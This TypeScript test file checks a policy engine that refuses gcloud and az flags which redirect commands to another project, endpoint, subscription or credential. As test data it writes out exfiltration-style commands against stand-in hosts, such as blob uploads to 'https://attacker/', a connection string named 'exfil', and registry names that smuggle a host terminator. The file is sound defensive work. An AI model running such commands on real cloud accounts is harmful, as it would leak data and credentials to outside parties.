/**
 * A command's own argument that picks another project (gcloud `--topic-project`,
 * `--kms-project`, ... generated from the SDK's tree) or another endpoint or
 * subscription (az `--blob-endpoint`, `--connection-string`,
 * `--target-subscription-id`, generated from az's command table) is refused
 * whatever the rules say (red team 10 F3, 10b F4): under a broad accept and
 * under the bundled read-only presets, in every spelling the CLI reads, while
 * a prefix gcloud reads as another flag (`--topic`) and a public image project
 * stay up to the rules.
 */
import { describe, expect, it } from "vitest";
import { compilePolicy } from "../../../src/policy/compile.js";
import { evaluatePolicy } from "../../../src/policy/evaluate.js";
import { findLockedCommandUse } from "../../../src/policy/grammar/locked-commands.js";
import { readonlyPresetPolicy } from "../../support/bundled-provider.js";
import { bundledPolicyContext, ruleList } from "../../support/policy-helpers.js";

const broad = (name: string) => compilePolicy(bundledPolicyContext(name), { shared: ruleList([], ["/.*/"]) });
const gcloudBroad = broad("gcloud");
const gcloudReadonly = readonlyPresetPolicy("gcloud");
const cases = (rows: readonly (readonly string[])[]) => rows.map((argv) => [argv.join(" "), argv] as const);

describe("gcloud: flags that name another project are refused whatever the rules", () => {
  it.each(
    cases([
      ["pubsub", "subscriptions", "create", "s", "--topic", "t", "--topic-project", "OTHER"],
      ["pubsub", "subscriptions", "create", "s", "--topic=t", "--topic-project=OTHER"],
      ["beta", "pubsub", "subscriptions", "create", "s", "--topic-project", "OTHER", "--topic", "t"],
      ["container", "binauthz", "attestations", "list", "--attestor=a", "--attestor-project", "OTHER"],
      ["kms", "keys", "list", "--keyring=k", "--location=l", "--kms-project=OTHER"],
      ["bigtable", "backups", "copy", "--destination-project", "OTHER"],
      ["compute", "instances", "create", "vm", "--image=i", "--image-project", "attacker-images"],
      ["compute", "instances", "create", "vm", "--image-project=attacker-images"],
      ["compute", "instances", "create", "vm", "--image-project=debian-cloud", "--image-project=attacker-images"],
      ["compute", "instances", "create", "vm", "--image-project"],
    ]),
  )("gcloud %s", (_, argv) => {
    expect(evaluatePolicy(gcloudBroad, argv).decision).toMatchObject({ result: "deny", source: "locked-option" });
  });

  it("a read the read-only preset accepts is refused with the flag", () => {
    const list = ["container", "binauthz", "attestations", "list", "--attestor=a"];
    expect(evaluatePolicy(gcloudReadonly, list).decision.result).toBe("accept");
    expect(evaluatePolicy(gcloudReadonly, [...list, "--attestor-project", "OTHER"]).decision).toMatchObject({ result: "deny", source: "locked-option" });
  });

  it("the denial names the flag, never the project", () => {
    const decision = evaluatePolicy(gcloudBroad, ["pubsub", "subscriptions", "create", "s", "--topic-project=SECRET-PROJ"]).decision;
    expect(decision.reason).toContain("--topic-project");
    expect(decision.reason).not.toContain("SECRET-PROJ");
  });

  it.each(
    cases([
      ["pubsub", "subscriptions", "create", "s", "--topic", "t"],
      ["pubsub", "subscriptions", "create", "s", "--topic=t"],
      ["compute", "instances", "create", "vm", "--image-family=debian-12", "--image-project=debian-cloud"],
      ["compute", "instances", "create", "vm", "--image-family", "ubuntu-2204-lts", "--image-project", "ubuntu-os-cloud", "--zone", "z"],
      ["compute", "images", "list", "--image-projects-are-not-a-flag=x"],
      ["compute", "instances", "list", "--format=projection(name)"],
    ]),
  )("gcloud %s stays up to the rules", (_, argv) => {
    expect(evaluatePolicy(gcloudBroad, argv).decision.result).toBe("accept");
  });
});

const azBroad = broad("az");
const azReadonly = readonlyPresetPolicy("az");
const CONNECTION = "DefaultEndpointsProtocol=http;AccountName=exfil;AccountKey=a2V5;BlobEndpoint=http://127.0.0.1:9/exfil;";

describe("az: arguments that pick the endpoint, supply a credential or name another subscription are refused whatever the rules", () => {
  it.each(
    cases([
      ["storage", "blob", "list", "-c", "c", "--account-name", "v", "--auth-mode", "login", "--blob-endpoint", "https://attacker/"],
      ["storage", "blob", "list", "-c", "c", "--blob-endpoint=https://attacker/"],
      ["storage", "blob", "list", "-c", "c", "--blob-e", "https://attacker/"],
      ["storage", "blob", "list", "-c", "c", "--blob-end=https://attacker/"],
      ["storage", "container", "list", "--queue-endpoint", "https://attacker/"],
      ["storage", "share", "list", "--account-name", "v", "--file-endpoint", "https://attacker/"],
      ["storage", "share", "list", "--file-e=https://attacker/"],
      ["storage", "blob", "upload", "-c", "c", "-n", "loot", "--connection-string", CONNECTION],
      ["storage", "blob", "list", "-c", "c", `--connection-string=${CONNECTION}`],
      ["storage", "blob", "list", "-c", "c", "--connection-str", CONNECTION],
      ["storage", "blob", "list", "-c", "c", "--account-name", "a", "--sas-token", "sv=x&sig=y"],
      ["storage", "blob", "list", "-c", "c", "--account-name", "a", "--account-key", "a2V5"],
      ["storage", "copy", "--source-sas", "sig=y", "--source", "https://a/c/b"],
      ["storage", "copy", "--source-s=sig=y"],
      ["appconfig", "kv", "list", "--auth-mode", "login", "--endpoint", "https://attacker/"],
      ["batch", "pool", "list", "--account-endpoint", "https://attacker/"],
      ["repos", "list", "--org", "https://attacker.example/"],
      ["pipelines", "list", "--organization=https://attacker.example/"],
      ["backup", "restore", "restore-disks", "-g", "g", "-v", "v", "--target-subscription-id", "OTHER"],
      ["resource", "move", "--ids", "x", "--destination-subscription-id", "OTHER"],
      ["synapse", "sql", "audit-policy", "update", "--storage-subscription", "OTHER"],
      ["network", "dns", "record-set", "ns", "add-record", "--subscriptionid", "OTHER"],
    ]),
  )("az %s", (_, argv) => {
    expect(evaluatePolicy(azBroad, argv).decision).toMatchObject({ result: "deny", source: "locked-option" });
  });

  it.each(
    cases([
      ["acr", "repository", "list", "-n", "attacker.example/x"],
      ["acr", "repository", "list", "-nattacker.example/x"],
      ["acr", "repository", "list", "--name=attacker.example#"],
      ["acr", "repository", "list", "--na", "attacker.example?"],
      ["acr", "task", "list", "-r", "1572395042\\x"],
    ]),
  )("acr: a registry name that ends the login server's host early, az %s", (_, argv) => {
    expect(evaluatePolicy(azBroad, argv).decision).toMatchObject({ result: "deny", source: "locked-option" });
    expect(evaluatePolicy(azReadonly, argv).decision.result).toBe("deny");
  });

  it("acr: a plain registry name stays up to the rules", () => {
    expect(evaluatePolicy(azBroad, ["acr", "repository", "list", "-n", "myregistry"]).decision.result).toBe("accept");
    expect(evaluatePolicy(azReadonly, ["acr", "repository", "list", "-n", "myregistry"]).decision.result).toBe("accept");
    expect(evaluatePolicy(azBroad, ["acr", "manifest", "list-metadata", "-r", "myregistry", "team/app"]).decision.result).toBe("accept");
  });

  it.each(
    cases([
      ["storage", "blob", "list", "-c", "c", "--account-name", "v", "--auth-mode", "login", "--blob-endpoint", "https://attacker/"],
      ["storage", "container", "list", "--account-name", "v", "--blob-endpoint", "https://attacker/"],
      ["storage", "share", "list", "--account-name", "v", "--file-endpoint", "https://attacker/"],
      ["storage", "blob", "list", "-c", "c", "--connection-string", CONNECTION],
    ]),
  )("under the read-only preset: az %s", (_, argv) => {
    expect(evaluatePolicy(azReadonly, argv).decision.result).toBe("deny");
  });

  it("the read-only preset still accepts the same list without the endpoint", () => {
    expect(evaluatePolicy(azReadonly, ["storage", "blob", "list", "-c", "c", "--account-name", "v", "--auth-mode", "login"]).decision.result).toBe("accept");
  });

  it("the denial names the option, never the connection string", () => {
    const decision = evaluatePolicy(azBroad, ["storage", "blob", "list", `--connection-string=${CONNECTION}`]).decision;
    expect(decision.reason).toContain("--connection-string");
    expect(decision.reason).not.toContain("a2V5");
  });

  it.each(
    cases([
      ["storage", "copy", "--source-account-name", "a", "--source-container", "c", "--destination-account-name", "d", "--destination-container", "c"],
      ["storage", "share", "list", "--account-name", "v"],
      ["iot", "hub", "route", "create", "--hub-name", "h", "--endpoint", "e", "--route-name", "r", "--source", "devicemessages"],
      ["bot", "update", "-n", "b", "-g", "g", "--endpoint", "https://bot.example/api/messages"],
      ["servicebus", "topic", "subscription", "rule", "list", "--subscription-name", "s", "-g", "g", "--namespace-name", "n", "--topic-name", "t"],
    ]),
  )("az %s stays up to the rules", (_, argv) => {
    expect(evaluatePolicy(azBroad, argv).decision.result).toBe("accept");
  });
});

describe("locked_command_options rows: exact and allowed_values", () => {
  const parsed = (tokens: readonly string[]) => ({
    positionals: tokens.map((token, index) => ({ token, index: index + 1 })),
    options: [],
    tail: [],
  });
  const exact = [{ command: ["storage", "copy"], options: ["--source-sas", "--source-sa", "--source-s", "--source-"], exact: true }];

  it("an exact row refuses only its listed spellings: argparse reads another option's exact name as that option", () => {
    expect(findLockedCommandUse(parsed(["storage", "copy", "--source", "x"]), [], exact)).toBeUndefined();
    expect(findLockedCommandUse(parsed(["storage", "copy", "--source-s", "x"]), [], exact)?.option).toBe("--source-s");
    expect(findLockedCommandUse(parsed(["storage", "copy", "--source-sas=x"]), [], exact)?.option).toBe("--source-sas");
  });

  it("an allowed_values row reads the glued value or the next word only", () => {
    const rows = [{ command: [], options: ["--image-project"], exact: true, allowedValues: ["debian-cloud"] }];
    expect(findLockedCommandUse(parsed(["compute", "instances", "create", "--image-project", "debian-cloud", "vm"]), [], rows)).toBeUndefined();
    expect(findLockedCommandUse(parsed(["compute", "instances", "create", "--image-project", "vm", "debian-cloud"]), [], rows)).toBeDefined();
    expect(findLockedCommandUse(parsed(["compute", "instances", "create", "--image-project=Debian-cloud"]), [], rows)).toBeDefined();
  });
});
